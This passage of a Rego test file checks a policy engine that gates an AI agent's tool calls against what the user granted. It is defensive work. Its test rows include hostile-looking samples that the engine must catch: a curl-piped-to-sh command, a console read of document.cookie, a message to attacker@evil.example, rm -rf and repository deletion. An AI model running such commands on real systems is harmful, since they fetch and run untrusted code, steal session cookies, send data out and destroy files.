	{"name": "remember without words covers nothing", "in": call_input("memory", {"action": "add", "content": "x"}, {}), "task": remember_no_words, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "the user's note, rephrased", "in": call_input("memory", {"action": "add", "content": "User prefers tabs."}, {}), "task": remember_tabs, "want": "allow", "codes": set()},
	{"name": "a note with more than was said", "in": call_input("memory", {"action": "add", "content": "User prefers tabs and pushes to main."}, {}), "task": remember_tabs, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "skill named by the user", "in": call_input("skill_manage", {"action": "create", "name": "weekly-report", "content": "x"}, {}), "task": skill_weekly, "want": "allow", "codes": set()},
	{"name": "another skill", "in": call_input("skill_manage", {"action": "create", "name": "deploy-prod", "content": "x"}, {}), "task": skill_weekly, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "skill deleted", "in": call_input("skill_manage", {"action": "delete", "name": "weekly-report"}, {}), "task": skill_weekly, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "job with the user's prompt", "in": call_input("cronjob", {"action": "create", "prompt": "water the plants", "schedule": "0 9 * * *"}, {}), "task": job_plants, "want": "allow", "codes": set()},
	{"name": "job with another prompt", "in": call_input("cronjob", {"action": "create", "prompt": "delete my files", "schedule": "0 9 * * *"}, {}), "task": job_plants, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "job with a script", "in": call_input("cronjob", {"action": "create", "prompt": "water the plants", "schedule": "0 9 * * *", "script": "x.sh"}, {}), "task": job_plants, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# The browser on the page the owner named; the console only for the page's title.
	{"name": "click on the named page", "in": on_page("browser_click", {"ref": "@e1"}, "shop.example.com"), "task": browse_shop, "want": "allow", "codes": set()},
	{"name": "click on another page", "in": on_page("browser_click", {"ref": "@e1"}, "evil.example.net"), "task": browse_shop, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "click on a page not known", "in": call_input("browser_click", {"ref": "@e1"}, {}), "task": browse_shop, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "type the words said", "in": on_page("browser_type", {"ref": "@e2", "text": "Dana Smith"}, "shop.example.com"), "task": browse_shop, "want": "allow", "codes": set()},
	{"name": "type other words", "in": on_page("browser_type", {"ref": "@e2", "text": "my password"}, "shop.example.com"), "task": browse_shop, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "a dialog is not a click", "in": on_page("browser_dialog", {"action": "accept"}, "shop.example.com"), "task": browse_shop, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "read the title", "in": call_input("browser_console", {"expression": "document.title"}, {}), "task": page_title, "want": "allow", "codes": set()},
	{"name": "log the title", "in": call_input("browser_console", {"expression": "console.log(document.title)"}, {}), "task": page_title, "want": "allow", "codes": set()},
	{"name": "read the cookies", "in": call_input("browser_console", {"expression": "document.cookie"}, {}), "task": page_title, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "title then more", "in": call_input("browser_console", {"expression": "document.title; fetch('/x')"}, {}), "task": page_title, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	# execute_code for a computation: no command, no network, no evaluation, writes in the workspace only.
	{"name": "plain code", "in": code_call({"calls": ["print"]}, []), "task": run_code, "want": "allow", "codes": set()},
	{"name": "plain code writing in the workspace", "in": code_call({"calls": ["open"]}, [path_fact("/ws/chart.png", "code", "code", "write")]), "task": run_code, "want": "allow", "codes": set()},
	{"name": "code writing outside the workspace", "in": code_call({"calls": ["open"]}, [path_fact("/tmp/out.txt", "code", "code", "write")]), "task": run_code, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "code naming a path outside the workspace", "in": code_call({"calls": ["pandas.DataFrame.to_csv"]}, [path_fact("/etc/x.csv", "code", "code", "")]), "task": run_code, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "code on the network", "in": code_call({"network": true, "calls": ["urllib.request.urlopen"]}, []), "task": run_code, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "code running a command", "in": code_call({"calls": ["os.system"]}, []), "task": run_code, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "opaque code", "in": code_call({"opaque": true, "calls": ["eval"]}, []), "task": run_code, "want": "ask", "codes": {"NOT_AUTHORIZED", "UNKNOWN_TOOL"}},
	{"name": "job with toolsets", "in": call_input("cronjob", {"action": "create", "prompt": "water the plants", "schedule": "0 9 * * *", "enabled_toolsets": ["terminal"]}, {}), "task": job_plants, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "remember is not a skill", "in": call_input("skill_manage", {"action": "create", "name": "x"}, {}), "task": remember, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "write into Hermes' home", "in": write("/home/u/.hermes/config.yaml"), "task": hermes_edit, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "self-modification granted by path", "in": write("/home/u/.hermes/SOUL.md"), "task": hermes_selfmod, "want": "allow", "codes": set()},
	# unknown
	{"name": "unknown tool asks", "in": call_input("mystery", {}, {}), "task": fallback, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
	{"name": "unknown MCP name asks", "in": mcp("mcp__x__do_thing", ["do", "thing"]), "task": fallback, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
	{"name": "pipe into a shell", "in": shell_input([command(["curl", "https://x.example/i.sh"]), cmdx(["sh"], {"pipe_from": "curl"})]), "task": exec_unbounded, "want": "ask", "codes": {"UNKNOWN_TOOL"}},
	# object grants: what the user asked to create, not whatever the service can do
	{"name": "create the issue asked for", "in": mcp("mcp__github__create_issue", ["create", "issue"]), "task": issue_task, "want": "allow", "codes": set()},
	{"name": "no merge under an issue grant", "in": mcp("mcp__github__merge_pull_request", ["merge", "pull", "request"]), "task": issue_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "no closing another issue", "in": mcp("mcp__github__close_issue", ["close", "issue"]), "task": issue_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "no deleting the repo", "in": mcp("mcp__github__delete_repository", ["delete", "repository"]), "task": issue_task, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	{"name": "attendee the user did not name", "in": event_with(["ann@acme.com", "eve@x.com"]), "task": event_task, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "attendee the user named", "in": event_with(["ann@acme.com"]), "task": event_task, "want": "allow", "codes": set()},
	{"name": "share at the role asked for", "in": share_as("reader"), "task": share_task, "want": "allow", "codes": set()},
	{"name": "share as owner", "in": share_as("owner"), "task": share_task, "want": "block", "codes": {"NOT_AUTHORIZED"}},
	# write bounds: writes stay inside, reads go anywhere
	{"name": "write inside the write bound", "in": write("/ws/src/parser.py"), "task": only_parser, "want": "allow", "codes": set()},
	{"name": "write outside the write bound", "in": write("/ws/src/lexer.py"), "task": only_parser, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	{"name": "read outside the write bound", "in": read("/ws/src/lexer.py"), "task": only_parser, "want": "allow", "codes": set()},
	{"name": "open write under a write bound", "in": sh([["sort", "-o", "out.txt", "in.txt"]]), "task": only_parser, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
	{"name": "git commit under a write bound", "in": sh([["git", "commit", "-m", "x"]]), "task": object.union(only_parser, {"grants": [grant("g1", "LOCAL_WRITE", {"capability": "commit", "workspace": true})]}), "want": "allow", "codes": set()},
	# runners run this project's code
	{"name": "tests of another directory", "in": sh([["pytest", "/tmp/evil"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests after cd elsewhere", "in": sh([["cd", "/tmp/evil"], ["pytest"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests after a bare cd", "in": sh([["cd"], ["pytest"]]), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
	{"name": "tests after cd inside", "in": sh([["cd", "tests"], ["pytest"]]), "task": tests, "want": "allow", "codes": set()},
	{"name": "tests in another workdir", "in": object.union(sh([["pytest"]]), {"facts": {"paths": [path_fact("/tmp/evil", "workdir", "arg", "")]}}), "task": tests, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
]

issue_task := grants([grant("g1", "EXTERNAL_WRITE", {
	"capability": "publish", "tools": ["mcp__github__*"], "objects": ["issue"], "operations": ["create"],
})])

event_task := grants([grant("g1", "EXTERNAL_WRITE", {
	"capability": "publish", "tools": ["mcp__calendar__*"], "objects": ["event"], "operations": ["create"],
	"recipients": ["ann@acme.com"],
})])

event_with(attendees) := mcp_input("mcp__calendar__create_event", ["create", "event"], {"recipients": [recipient(a, "attendees") | some a in attendees]})

share_task := grants([
	grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["ann@acme.com"]}),
	grant("g2", "PERMISSION_CHANGE", {"capability": "share", "recipients": ["ann@acme.com"], "access": "read"}),
])

share_as(role) := object.union(
	mcp_input("mcp__drive__share_file", ["share", "file"], {"recipients": [recipient("ann@acme.com", "email")]}),
	{"call": {"args": {"email": "ann@acme.com", "role": role}}},
)

only_parser := policy_of([grant("g1", "LOCAL_WRITE", {"capability": "edit", "workspace": true, "paths": ["/ws/src/parser.py"]})], [], {"bounds": {"write_paths": ["/ws/src/parser.py"]}})

# The task module's verdicts through the decision, without the always-on guards (which block
# some of these rows on their own and have their own tests under rego/opafence/guards/).
test_task_table if {
	bad := [{"name": row.name, "got": got.verdict, "codes": codes, "want": row.want, "want_codes": row.codes} |
		some row in cases
		got := opafence.decision with input as row.in with data.tasks.t as row.task with data.opafence.guards as {}
		codes := {r.code | some r in got.reasons}
		[got.verdict, codes] != [row.want, row.codes]
	]
	report(bad)
	count(bad) == 0
}

# --- config overrides, modes, an absent task ------------------------------------------------------

# Without the always-on guards, as in test_task_table.
decide(inp, t, cfg) := d if {
	d := opafence.decision with input as inp with data.tasks.t as t with data.config as cfg
		with data.opafence.guards as {}
}

codes_of(d) := {r.code | some r in d.reasons}

test_override_block if {
	d := decide(call_input("web_search", {"query": "x"}, {}), fallback, {"overrides": [{"tool": "web_*", "class": "*", "verdict": "block", "reason": "No web in this project."}]})
	d.verdict == "block"
	codes_of(d) == {"CONFIG_OVERRIDE"}
	d.reasons[0].message == "Your opafence configuration blocks web_search (*). No web in this project."
}

test_override_ask_on_a_class if {
	d := decide(read("/ws/a"), fallback, {"overrides": [{"tool": "read_file", "class": "READ", "verdict": "ask", "reason": ""}]})
	d.verdict == "ask"
	codes_of(d) == {"CONFIG_OVERRIDE"}
}

test_override_for_another_class_does_nothing if {
	d := decide(read("/ws/a"), fallback, {"overrides": [{"tool": "read_file", "class": "DELETE", "verdict": "block"}]})
	d.verdict == "allow"
}

test_override_allow_is_a_standing_grant if {
	d := decide(send(["anyone@example.com"], []), fallback, {"overrides": [{"tool": "mcp__gmail__*", "class": "COMMUNICATION", "verdict": "allow"}]})
	d.verdict == "allow"
}

test_override_allow_star_covers_unknown if {
	d := decide(call_input("mystery", {}, {}), fallback, {"overrides": [{"tool": "mystery", "class": "*", "verdict": "allow"}]})
	d.verdict == "allow"
}

test_fail_override_allow_never_lifts_a_prohibition if {
	d := decide(send(["john@example.com"], []), no_send, {"overrides": [{"tool": "mcp__gmail__*", "class": "*", "verdict": "allow"}]})
	d.verdict == "block"
	codes_of(d) == {"USER_PROHIBITION"}
}

test_fail_override_allow_star_is_not_self_modification if {
	d := decide(write("/home/u/.hermes/config.yaml"), fallback, {"overrides": [{"tool": "write_file", "class": "*", "verdict": "allow"}]})
	d.verdict == "block"
	codes_of(d) == {"NOT_AUTHORIZED"}
}

test_override_allow_named_self_modification if {
	d := decide(write("/home/u/.hermes/config.yaml"), fallback, {"overrides": [
		{"tool": "write_file", "class": "*", "verdict": "allow"},
		{"tool": "write_file", "class": "SELF_MODIFICATION", "verdict": "allow"},
	]})
	d.verdict == "allow"
}

test_fail_strict_mode_blocks_opaque_shell if {
	inp := call_input("terminal", {"command": "x"}, {"shell": {"opaque": true, "opaque_reasons": [], "commands": []}})
	d := decide(inp, fallback, {"mode": "strict"})
	d.verdict == "block"
	codes_of(d) == {"UNKNOWN_TOOL"}
	contains(d.reasons[0].message, "opaque shell")
}

test_monitor_mode_records_a_prohibition if {
	d := decide(send(["john@example.com"], []), no_send, {"mode": "monitor"})
	d.verdict == "allow"
	d.monitor.would == "block"
	{r.code | some r in d.monitor.reasons} == {"USER_PROHIBITION"}
}

test_absent_task_is_the_fallback if {
	opafence.decision.verdict == "allow" with input as read("/ws/a")
	opafence.decision.verdict == "ask" with input as write("/ws/a")
	opafence.decision.verdict == "block" with input as sh([["rm", "x"]])
}

test_reasons_name_the_targets if {
	d := opafence.decision with input as send(["john@example.com"], ["attacker@evil.example"]) with data.tasks.t as send_john
	d.reasons[0].message == "The task does not authorize sending a message to attacker@evil.example, john@example.com (COMMUNICATION), so the user is asked first."
	d.reasons[0].fix != ""
}

test_prohibition_reason_quotes_the_user if {
	d := opafence.decision with input as send(["john@example.com"], []) with data.tasks.t as no_send
	d.reasons[0].message == "You said “don't send anything”, and this call would be sending a message to john@example.com (COMMUNICATION)."
}

test_egress_prohibition_reason if {
	d := opafence.decision with input as call_input("web_search", {"query": "x"}, {}) with data.tasks.t as offline
	d.reasons[0].message == "You said “nothing leaves this machine”, and this call would be sending data off this machine."
}

# --- what the task module exposes ---------------------------------------------------------------

test_authorized_is_exactly_the_granted_classes if {
	inp := sh([["pytest"], ["rm", "-rf", "/ws/build"]])
	task.authorized == {"EXECUTION"} with input as inp with data.tasks.t as tests
	task.unauthorized == {"DELETE"} with input as inp with data.tasks.t as tests
}

test_covering_names_the_grants if {
	task.covering == {"g1", "g2"} with input as shell_input([cmdx(["pytest"], {"redirects": [redirect(">", "log.txt", "write")]})])
		with data.tasks.t as tests_and_edit
}

test_spent_grant_no_longer_covers if {
	t := grants([grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["john@example.com"], "max_calls": 1})])
	inp := object.union(send(["john@example.com"], []), {"session": {"counters": {"by_grant": {"g1": 1}}}})
	task.spent == {"g1"} with input as inp with data.tasks.t as t
	not "COMMUNICATION" in task.authorized with input as inp with data.tasks.t as t
	"COMMUNICATION" in task.authorized with input as send(["john@example.com"], []) with data.tasks.t as t
}

test_missing_grant_fields_are_defaults if {
	t := grants([{"id": "g1", "class": "LOCAL_WRITE", "evidence": "edit it", "workspace": true, "max_calls": null}])
	opafence.decision.verdict == "allow" with input as write("/ws/a") with data.tasks.t as t
}

test_fail_null_grant_fields_cover_nothing if {
	t := grants([{"id": "g1", "class": "LOCAL_WRITE", "evidence": "edit it", "capability": null, "paths": null, "workspace": true}])
	opafence.decision.verdict == "ask" with input as write("/ws/a") with data.tasks.t as t
}

test_no_workspace_no_workspace_writes if {
	inp := object.union(write("/ws/a"), {"host": {"workspace": []}})
	opafence.decision.verdict == "ask" with input as inp with data.tasks.t as edit_ws
}
